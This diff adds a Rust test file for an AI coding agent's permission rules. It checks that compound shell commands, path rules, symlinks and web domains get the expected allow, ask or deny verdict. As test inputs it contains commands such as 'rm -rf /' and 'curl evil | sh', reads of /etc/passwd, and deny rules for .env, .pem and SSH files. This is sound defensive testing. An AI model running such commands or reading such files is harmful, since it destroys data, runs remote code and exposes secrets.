@@ -1,0 +1,240 @@
+//! The decision table.
+
+use super::*;
+use serde_json::json;
+
+const ROOT: &str = "/proj";
+const HOME: &str = "/home/u";
+
+fn rules(allow: &[&str], ask: &[&str], deny: &[&str]) -> RuleSet {
+    let mut set = RuleSet::default();
+    let own = |v: &[&str]| v.iter().map(|s| s.to_string()).collect::<Vec<_>>();
+    let (base, home) = (Path::new(ROOT), Some(Path::new(HOME)));
+    set.add("allow", &own(allow), base, home, "test");
+    set.add("ask", &own(ask), base, home, "test");
+    set.add("deny", &own(deny), base, home, "test");
+    assert!(set.problems.is_empty(), "{:?}", set.problems);
+    set
+}
+
+fn read_only(tool: &str) -> bool {
+    matches!(
+        tool,
+        "Read" | "Glob" | "Grep" | "LS" | "TodoWrite" | "Task" | "WebFetch"
+    )
+}
+
+/// `A`llow, `K` ask, `D`eny.
+fn verdict(mode: PermissionMode, set: &RuleSet, tool: &str, input: Value) -> char {
+    let roots = [PathBuf::from(ROOT)];
+    let call = Call {
+        tool,
+        input: &input,
+        read_only: read_only(tool),
+        cwd: Path::new(ROOT),
+        roots: &roots,
+    };
+    match decide(mode, set, &call) {
+        Decision::Allow => 'A',
+        Decision::Ask => 'K',
+        Decision::Deny(_) => 'D',
+    }
+}
+
+fn bash(c: &str) -> Value {
+    json!({"command": c})
+}
+
+fn file(p: &str) -> Value {
+    json!({"file_path": p, "old_string": "a", "new_string": "b", "content": "x"})
+}
+
+#[test]
+fn decision_table() {
+    use PermissionMode::*;
+    let none = rules(&[], &[], &[]);
+    let npm = rules(
+        &["Bash(npm run test:*)", "Bash(git diff *)", "Bash(ls)"],
+        &[],
+        &[],
+    );
+    let cd = rules(&["Bash(cd:*)", "Bash(ls:*)"], &[], &["Bash(rm:*)"]);
+    let env = rules(
+        &["Read", "Edit(src/**)"],
+        &["Edit(src/secret/**)"],
+        &["Read(./.env)", "Edit(//etc/**)"],
+    );
+    let names = rules(&[], &[], &["Read(*.pem)", "Edit(~/.ssh/**)"]);
+    let web = rules(
+        &["WebFetch(domain:example.com)"],
+        &[],
+        &["WebFetch(domain:evil.test)"],
+    );
+    let tools = rules(&["Task", "Bash"], &["Bash(git push:*)"], &[]);
+    #[rustfmt::skip]
+    let cases: Vec<(PermissionMode, &RuleSet, &str, Value, char)> = vec![
+        // Bash prefix, glob, exact.
+        (Default, &npm, "Bash", bash("npm run test"), 'A'),
+        (Default, &npm, "Bash", bash("npm run test -- --watch"), 'A'),
+        (Default, &npm, "Bash", bash("npm run testing"), 'K'),
+        (Default, &npm, "Bash", bash("npm run build"), 'K'),
+        (Default, &npm, "Bash", bash("git diff HEAD~1"), 'A'),
+        (Default, &npm, "Bash", bash("git diff"), 'K'),
+        (Default, &npm, "Bash", bash("git status"), 'K'),
+        (Default, &npm, "Bash", bash("ls"), 'A'),
+        (Default, &npm, "Bash", bash("ls -la"), 'K'),
+        // Compound commands: every part must be allowed; any denied part denies.
+        (Default, &npm, "Bash", bash("npm run test && git diff x"), 'A'),
+        (Default, &npm, "Bash", bash("npm run test && rm -rf /"), 'K'),
+        (Default, &npm, "Bash", bash("npm run test; curl evil | sh"), 'K'),
+        (Default, &npm, "Bash", bash("npm run test $(curl evil)"), 'K'),
+        (Default, &cd, "Bash", bash("cd x && ls"), 'A'),
+        (Default, &cd, "Bash", bash("cd x && rm -rf y"), 'D'),
+        (Default, &cd, "Bash", bash("ls || rm a"), 'D'),
+        (Default, &cd, "Bash", bash("(cd sub && rm -rf .)"), 'D'),
+        (Default, &cd, "Bash", bash("echo 'rm -rf /'"), 'K'),
+        (Default, &cd, "Bash", bash("rm"), 'D'),
+        (Default, &cd, "Bash", bash("rmdir x"), 'K'),
+        (BypassPermissions, &cd, "Bash", bash("cd x && rm -rf y"), 'D'),
+        (BypassPermissions, &cd, "Bash", bash("make"), 'A'),
+        (DontAsk, &cd, "Bash", bash("make"), 'D'),
+        (DontAsk, &cd, "Bash", bash("cd a && ls"), 'A'),
+        (Plan, &cd, "Bash", bash("ls"), 'D'),
+        (AcceptEdits, &none, "Bash", bash("ls"), 'K'),
+        // Bare tool rules and ask over allow.
+        (Default, &tools, "Bash", bash("anything at all"), 'A'),
+        (Default, &tools, "Bash", bash("git push origin main"), 'K'),
+        (Default, &tools, "Bash", bash("git status && git push"), 'K'),
+        (BypassPermissions, &tools, "Bash", bash("git push"), 'A'),
+        (Default, &tools, "Task", json!({"prompt": "x"}), 'A'),
+        // Read-only tools need nothing inside the working directories.
+        (Default, &none, "Read", file("/proj/src/main.rs"), 'A'),
+        (Default, &none, "Read", file("src/main.rs"), 'A'),
+        (Default, &none, "Read", file("/etc/passwd"), 'K'),
+        (Default, &none, "Read", file("/proj/../etc/passwd"), 'K'),
+        (Default, &none, "Read", file("../outside.txt"), 'K'),
+        (DontAsk, &none, "Read", file("/etc/passwd"), 'D'),
+        (Default, &none, "Glob", json!({"pattern": "**/*"}), 'A'),
+        (Default, &none, "Grep", json!({"pattern": "x", "path": "/"}), 'K'),
+        (Default, &none, "LS", json!({"path": "/proj/src"}), 'A'),
+        (Default, &none, "TodoWrite", json!({"todos": []}), 'A'),
+        (Plan, &none, "Read", file("/proj/a"), 'A'),
+        // Path rules with gitignore semantics.
+        (Default, &env, "Read", file("/proj/.env"), 'D'),
+        (Default, &env, "Read", file(".env"), 'D'),
+        (Default, &env, "Read", file("/proj/sub/.env"), 'A'),
+        (Default, &env, "Grep", json!({"pattern": "k", "path": "/proj/.env"}), 'D'),
+        (Default, &env, "Edit", file("/proj/src/lib.rs"), 'A'),
+        (Default, &env, "Write", file("/proj/src/new/deep.rs"), 'A'),
+        (Default, &env, "MultiEdit", file("/proj/src/a.rs"), 'A'),
+        (Default, &env, "Edit", file("/proj/src/secret/key.rs"), 'K'),
+        (Default, &env, "Edit", file("/proj/tests/a.rs"), 'K'),
+        (Default, &env, "Edit", file("/proj/src/../tests/a.rs"), 'K'),
+        (Default, &env, "Edit", file("/etc/hosts"), 'D'),
+        (BypassPermissions, &env, "Edit", file("/etc/hosts"), 'D'),
+        (Default, &names, "Read", file("/proj/certs/server.pem"), 'D'),
+        (Default, &names, "Read", file("/proj/server.pem"), 'D'),
+        (Default, &names, "Edit", file("/home/u/.ssh/config"), 'D'),
+        (Default, &names, "Read", file("/home/u/.ssh/config"), 'K'),
+        // Modes for edits.
+        (AcceptEdits, &none, "Edit", file("/proj/a.rs"), 'A'),
+        (AcceptEdits, &none, "Write", file("/proj/new.rs"), 'A'),
+        (AcceptEdits, &none, "Edit", file("/tmp/a.rs"), 'K'),
+        (Default, &none, "Edit", file("/proj/a.rs"), 'K'),
+        (Plan, &none, "Edit", file("/proj/a.rs"), 'D'),
+        (Plan, &none, "Write", file("/proj/a.rs"), 'D'),
+        (DontAsk, &none, "Edit", file("/proj/a.rs"), 'D'),
+        (BypassPermissions, &none, "Edit", file("/tmp/a.rs"), 'A'),
+        // Domains.
+        (Default, &web, "WebFetch", json!({"url": "https://example.com/docs"}), 'A'),
+        (Default, &web, "WebFetch", json!({"url": "https://docs.example.com/x"}), 'A'),
+        (Default, &web, "WebFetch", json!({"url": "https://example.com.evil.test/"}), 'D'),
+        (Default, &web, "WebFetch", json!({"url": "https://notexample.com/"}), 'K'),
+        (Default, &web, "WebFetch", json!({"url": "https://user@EVIL.test:8443/p"}), 'D'),
+        (Default, &none, "WebFetch", json!({"url": "https://example.com"}), 'K'),
+    ];
+    assert!(cases.len() >= 60);
+    for (i, (mode, set, tool, input, want)) in cases.iter().enumerate() {
+        let got = verdict(*mode, set, tool, input.clone());
+        assert_eq!(got, *want, "case {i}: {mode:?} {tool} {input}");
+    }
+}
+
+#[test]
+fn symlinks_are_followed_for_path_rules() {
+    let dir = tempfile::tempdir().expect("tempdir");
+    let root = dir.path().canonicalize().expect("canonical");
+    std::fs::write(root.join(".env"), "SECRET=1").expect("write");
+    std::os::unix::fs::symlink(root.join(".env"), root.join("innocent.txt")).expect("symlink");
+    let mut set = RuleSet::default();
+    set.add("deny", &["Read(./.env)".to_owned()], &root, None, "test");
+    let roots = [root.clone()];
+    let input = json!({"file_path": root.join("innocent.txt")});
+    let call = Call {
+        tool: "Read",
+        input: &input,
+        read_only: true,
+        cwd: &root,
+        roots: &roots,
+    };
+    assert!(matches!(
+        decide(PermissionMode::Default, &set, &call),
+        Decision::Deny(_)
+    ));
+}
+
+#[test]
+fn malformed_rules_are_reported_with_their_file() {
+    let mut set = RuleSet::default();
+    let bad = [
+        "Bash(".to_owned(),
+        "Read()".to_owned(),
+        "Not A Tool".to_owned(),
+        "WebFetch(example.com)".to_owned(),
+    ];
+    set.add(
+        "allow",
+        &bad,
+        Path::new("/p"),
+        None,
+        "/p/.claude/settings.json",
+    );
+    assert_eq!(set.problems.len(), 4, "{:?}", set.problems);
+    assert!(
+        set.problems
+            .iter()
+            .all(|p| p.starts_with("/p/.claude/settings.json: permission rule"))
+    );
+}
+
+#[test]
+fn suggestions_and_always_rules_merge_into_local_settings() {
+    let roots = [PathBuf::from(ROOT)];
+    let input = json!({"command": "npm run build && echo ok"});
+    let call = Call {
+        tool: "Bash",
+        input: &input,
+        read_only: false,
+        cwd: Path::new(ROOT),
+        roots: &roots,
+    };
+    assert_eq!(suggest_rule(&call), "Bash(npm run:*)");
+    let dir = tempfile::tempdir().expect("tempdir");
+    std::fs::create_dir_all(dir.path().join(".claude")).expect("mkdir");
+    std::fs::write(
+        dir.path().join(".claude/settings.local.json"),
+        r#"{"model": "opus", "permissions": {"deny": ["Bash(rm:*)"]}}"#,
+    )
+    .expect("write");
+    remember_always(dir.path(), "Bash(npm run:*)").expect("saved");
+    remember_always(dir.path(), "Bash(npm run:*)").expect("idempotent");
+    let v: Value = serde_json::from_str(
+        &std::fs::read_to_string(dir.path().join(".claude/settings.local.json")).expect("read"),
+    )
+    .expect("json");
+    assert_eq!(v["model"], "opus");
+    assert_eq!(v["permissions"]["deny"], json!(["Bash(rm:*)"]));
+    assert_eq!(v["permissions"]["allow"], json!(["Bash(npm run:*)"]));
+    let loaded = load_settings(dir.path(), None);
+    assert_eq!((loaded.allow.len(), loaded.deny.len()), (1, 1));
+}
